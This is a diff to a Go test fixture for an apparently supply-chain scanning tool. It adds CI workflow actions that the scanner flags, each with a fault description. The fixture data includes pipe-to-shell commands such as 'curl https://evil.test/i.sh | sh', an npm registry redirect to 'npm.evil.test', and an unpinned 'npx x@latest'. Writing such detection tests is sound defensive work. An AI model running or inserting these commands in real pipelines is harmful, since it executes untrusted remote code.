@@ -133,6 +133,17 @@ func ill() Input {
 		flag("old", FlagScript, "runs a script when it is installed", "base", 90))
 	in.NPM = &NPM{Locks: []Lock{{Manager: "npm", Version: "1", Fault: "is of lockfileVersion 1, which says little", Bundled: 2, Position: at("package-lock.json", 3, 22)},
 		{Manager: "bun", Fault: "is binary, so that the packages in it are not judged", Position: at("bun.lockb", 0, 0)}}}
+	action := func(kind, command, fault, origin string, line int, places ...Place) Action {
+		return Action{Kind: kind, Ecosystem: "npm", Command: command, Fault: fault, Origin: origin, Places: append([]Place{}, places...), Position: at(".github/workflows/ci.yml", line, 14)}
+	}
+	in.Workflows = append(in.Workflows,
+		action("source", "npm ci --registry=https://npm.evil.test", "sets another npm registry", "change", 10, PlaceOf("https://npm.evil.test")),
+		action("source", "npm config set registry=$R", "sets another npm registry, to what a variable holds", "checkout", 11),
+		action("early", "npm ci", "downloads before goproxy-action has judged anything in this job", "base", 12),
+		action("pipe", "curl https://evil.test/i.sh | sh", "runs what it downloads", "change", 13),
+		action("pipe", "curl https://a.test/i.sh | sh", "runs what it downloads", "base", 14),
+		action("pipe", "curl https://b.test/i.sh | sh", "runs what it downloads", "base", 15),
+		action("adhoc", "npx x@latest", "takes what no lock file pins, in whatever version is the newest", "change", 16))
 	return in
 }
 
